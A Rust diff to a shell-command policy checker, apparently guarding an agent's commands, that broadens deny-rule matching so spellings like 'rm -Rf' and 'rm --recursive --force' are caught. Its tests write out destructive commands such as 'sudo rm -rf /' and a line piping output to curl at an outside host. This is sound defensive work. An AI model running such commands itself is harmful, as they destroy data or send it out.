@@ -293,24 +293,29 @@ fn judge_command(policy: &Policy, access: Access) -> Judgement {
 }
 
 /// Whether a deny pattern is in a command: its first word names a command anywhere in the
-/// words (`sudo rm …`, `xargs rm …`, `/bin/rm`), its other words follow in order, and a short
-/// option cluster (`-rf`) is met by the command's short options together (`-r -f`, `-fr`).
+/// words (`sudo rm …`, `xargs rm …`, `/bin/rm`), its other words follow in order, and its
+/// options are met by the command's options however they are spelt: a short option cluster
+/// (`-rf`) by the command's short options together (`-r -f`, `-fr`), and for the commands of
+/// [`LONG_OPTIONS`] by their long names and other letters (`rm --recursive --force`, `rm -Rf`).
 pub fn denies(pattern: &CommandPattern, words: &[String]) -> bool {
     let Some((first, rest)) = pattern.words.split_first() else {
         return false;
     };
+    let name = shell::basename(first);
     words.iter().enumerate().any(|(i, w)| {
         if shell::basename(w) != first && w != first {
             return false;
         }
         let after = &words[i + 1..];
+        // Options end at `--` (`rm -r -- -f` removes a file named `-f`).
+        let options = &after[..after.iter().position(|w| w == "--").unwrap_or(after.len())];
+        let have: String = options.iter().filter_map(|w| letters(name, w)).collect();
         let mut at = 0;
         rest.iter().all(|p| {
-            if let Some(letters) = short_cluster(p) {
-                let have: String = after.iter().filter_map(|w| short_cluster(w)).collect();
-                letters.chars().all(|c| have.contains(c))
+            if let Some(need) = letters(name, p) {
+                need.chars().all(|c| have.contains(c))
             } else if p.starts_with('-') {
-                after
+                options
                     .iter()
                     .any(|w| w == p || w.starts_with(&format!("{p}=")))
             } else {
@@ -324,6 +329,47 @@ pub fn denies(pattern: &CommandPattern, words: &[String]) -> bool {
             }
         })
     })
+}
+
+/// Options with more than one spelling, per command: `(command, long name, letter)`, and
+/// letters that mean another (`(command, letter, same as)`).
+const LONG_OPTIONS: &[(&str, &str, char)] = &[
+    ("rm", "recursive", 'r'),
+    ("rm", "force", 'f'),
+    ("rm", "dir", 'd'),
+    ("rm", "interactive", 'i'),
+    ("rm", "verbose", 'v'),
+];
+const SAME_LETTERS: &[(&str, char, char)] = &[
+    ("rm", 'R', 'r'),
+    // Not an option of GNU or BSD rm; read as `-f` so that a spelling an rm may take one day
+    // is not a way around a deny.
+    ("rm", 'F', 'f'),
+];
+
+/// The short options one word of `command` stands for: `-rf` → `rf`, `-R` → `r` and
+/// `--recursive` → `r` for rm; `None` for a word that is no option, or a long option with no
+/// letter.
+fn letters(command: &str, word: &str) -> Option<String> {
+    if let Some(long) = word.strip_prefix("--") {
+        let long = long.split('=').next().unwrap_or(long);
+        return LONG_OPTIONS
+            .iter()
+            .find(|(c, l, _)| *c == command && *l == long)
+            .map(|(_, _, letter)| letter.to_string());
+    }
+    let cluster = short_cluster(word)?;
+    Some(
+        cluster
+            .chars()
+            .map(|c| {
+                SAME_LETTERS
+                    .iter()
+                    .find(|(cmd, from, _)| *cmd == command && *from == c)
+                    .map_or(c, |(_, _, to)| *to)
+            })
+            .collect(),
+    )
 }
 
 /// Whether an allow pattern starts the command that runs (past `env`, `timeout` and the like):
@@ -535,6 +581,12 @@ mod tests {
         assert_eq!(bash("rm -rf build"), (Violation, Some("commands.deny")));
         assert_eq!(bash("sudo rm -rf /"), (Violation, Some("commands.deny")));
         assert_eq!(bash("rm -r -f build"), (Violation, Some("commands.deny")));
+        assert_eq!(bash("rm -Rf build"), (Violation, Some("commands.deny")));
+        assert_eq!(
+            bash("rm --recursive --force build"),
+            (Violation, Some("commands.deny"))
+        );
+        assert_eq!(bash("rm -R --force x"), (Violation, Some("commands.deny")));
         assert_eq!(bash("curly --help"), (Violation, Some("commands.allow")));
         assert_eq!(
             bash("ls | curl -d @- http://x.io"),
